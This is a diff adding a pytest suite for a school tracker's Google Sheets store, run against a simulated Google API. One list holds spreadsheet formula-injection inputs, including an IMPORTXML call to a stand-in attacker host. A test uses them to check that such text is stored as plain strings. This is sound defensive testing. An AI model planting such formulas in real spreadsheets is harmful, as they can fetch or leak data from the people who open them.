@@ -1,0 +1,135 @@
+"""GoogleStore through the Google stand-in: real sign-in, one read per workbook, one batchUpdate per
+spreadsheet, people's tabs untouched, faults retried, the quota never hit."""
+from __future__ import annotations
+
+import pandas as pd
+import pytest
+
+from functions.changes import changed_workbooks
+from sync.google.store import GoogleStore
+from sync.store import Tab, WorkbookRef
+from tests.google_standin import SERVICE_ACCOUNT, TEACHER, StandIn
+
+HOSTILE = ['=IMPORTXML("http://evil.example","//a")', "+1", "@SUM(1)"]
+
+
+class SimClock:
+    def __init__(self) -> None:
+        self.now = 1000.0
+
+    def __call__(self) -> float:
+        return self.now
+
+    def sleep(self, seconds: float) -> None:
+        self.now += seconds
+
+
+@pytest.fixture
+def google(monkeypatch):
+    with StandIn() as standin:
+        monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(standin.key_file))
+        monkeypatch.setenv("TRACKER_GOOGLE_API_ROOT", standin.api_root)
+        yield standin
+        assert standin.schema_errors == []
+
+
+@pytest.fixture
+def school(google):
+    classes = google.create_folder("Classes")
+    oak = google.create_spreadsheet("Year 3 Oak", {"Pupils": [["UPN", "First name"], ["A123", "Ann"]],
+                                                   "Judgements": [["UPN", "Maths Autumn"], ["A123", "16"]]},
+                                    parents=[classes])
+    google.create_spreadsheet("Year 4 Ash", {"Pupils": [["UPN"]]}, parents=[classes])
+    summary = google.create_spreadsheet("Tracker summary", {"Settings": [["Classes folder", classes]],
+                                                            "Summary": [["The head's own notes"]]})
+    clock = SimClock()
+    store = GoogleStore(summary, classes_folder=classes, clock=clock, sleep=clock.sleep)
+    return store, oak, clock
+
+
+def problems_tab(*rows: list[object]) -> Tab:
+    return Tab(title="Problems", header=["Workbook", "Found"], rows=list(rows))
+
+
+def test_signs_in_through_the_token_endpoint_and_reads_a_workbook_in_one_request(google, school):
+    store, oak, _ = school
+    values = store.read_workbook(WorkbookRef(oak, "Year 3 Oak"))
+    assert values == {"Pupils": [["UPN", "First name"], ["A123", "Ann"]],
+                      "Judgements": [["UPN", "Maths Autumn"], ["A123", "16"]]}
+    assert google.count("read") == 1 and google.count("write") == 0
+    assert len(google.state.auth_requests) == 1
+
+
+def test_the_classes_folder_lists_only_live_spreadsheets(google, school):
+    store, _, _ = school
+    refs = store.list_class_workbooks()
+    assert sorted(ref.name for ref in refs) == ["Year 3 Oak", "Year 4 Ash"]
+    assert all(ref.modified_by == TEACHER and ref.modified for ref in refs)
+    assert google.count("read") == 1
+
+
+def test_a_write_is_one_batch_update_and_formula_text_stays_text(google, school):
+    store, oak, _ = school
+    ref = WorkbookRef(oak, "Year 3 Oak")
+    store.read_workbook(ref)
+    store.write_class_outputs(ref, [problems_tab(HOSTILE[:2], [HOSTILE[2], 3]),
+                                    Tab(title="Class summary", header=["UPN"], rows=[["A123"]])])
+    assert google.count("write") == 1 and google.count("read") == 1
+    written = google.read_spreadsheet(oak)
+    assert written["Problems"] == [["Workbook", "Found"], HOSTILE[:2], [HOSTILE[2], 3]]
+    assert google.cell(oak, "Problems", 1, 0)["userEnteredValue"] == {"stringValue": HOSTILE[0]}
+    assert written["Pupils"] == [["UPN", "First name"], ["A123", "Ann"]]
+
+
+def test_a_second_write_replaces_our_tab_in_place(google, school):
+    store, oak, _ = school
+    ref = WorkbookRef(oak, "Year 3 Oak")
+    store.write_class_outputs(ref, [problems_tab(["Year 3 Oak", "x"], ["Year 3 Oak", "y"])])
+    store.read_workbook(ref)
+    store.write_class_outputs(ref, [problems_tab(["Year 3 Oak", "z"])])
+    assert google.read_spreadsheet(oak)["Problems"] == [["Workbook", "Found"], ["Year 3 Oak", "z"]]
+    owned = [m for m in google.metadata(oak) if m.get("metadataKey") == "tracker-owned"]
+    assert len(owned) == 1
+    book = google.world.books[oak]
+    assert len(book.sheet_by_title("Problems").resource().get("protectedRanges", [])) == 1
+
+
+def test_a_persons_tab_with_our_title_is_untouched_and_we_write_beside_it(google, school):
+    store, _, _ = school
+    store.read_summary()
+    problems = store.write_summary([Tab(title="Summary", header=["Year"], rows=[[3]])])
+    values = google.read_spreadsheet(store.spreadsheet_id)
+    assert values["Summary"] == [["The head's own notes"]]
+    assert values["Summary (tracker)"] == [["Year"], [3]]
+    assert [p["tab"] for p in problems] == ["Summary"] and store.problems == problems
+
+
+def test_faults_are_retried_and_the_work_still_done(google, school):
+    store, oak, clock = school
+    google.faults.add("429", at=1, retry_after=7)
+    google.faults.add("500", at=2)
+    google.faults.add("drop", at=3)
+    assert store.read_workbook(WorkbookRef(oak, "Year 3 Oak"))["Pupils"][1] == ["A123", "Ann"]
+    assert store.counts.retries == 3 and store.counts.reads == 1
+    assert clock.now - 1000 >= 7                               # Retry-After honoured
+
+
+def test_our_own_write_does_not_count_as_a_change_but_a_teachers_edit_does(google, school):
+    store, oak, _ = school
+    before = pd.DataFrame([vars(ref) for ref in store.list_class_workbooks()])
+    store.write_class_outputs(WorkbookRef(oak, "Year 3 Oak"), [problems_tab()])
+    after = pd.DataFrame([vars(ref) for ref in store.list_class_workbooks()])
+    assert store.account_email == SERVICE_ACCOUNT
+    assert not changed_workbooks(after, before, store.account_email).any()
+    google.edit(oak, "Judgements", 1, 1, "17")
+    edited = pd.DataFrame([vars(ref) for ref in store.list_class_workbooks()])
+    assert edited.set_index("name")["id"][changed_workbooks(edited, after, store.account_email).to_numpy()].tolist() == [oak]
+
+
+def test_the_pacer_keeps_seventy_reads_inside_the_quota(google, school):
+    store, oak, clock = school
+    google.quotas.switch_on(reads=60, writes=60, clock=clock)
+    for _ in range(70):
+        store.read_workbook(WorkbookRef(oak, "Year 3 Oak"))
+    assert all(record.status == 200 for record in google.requests)
+    assert store.counts.retries == 0 and clock.now - 1000 >= 60
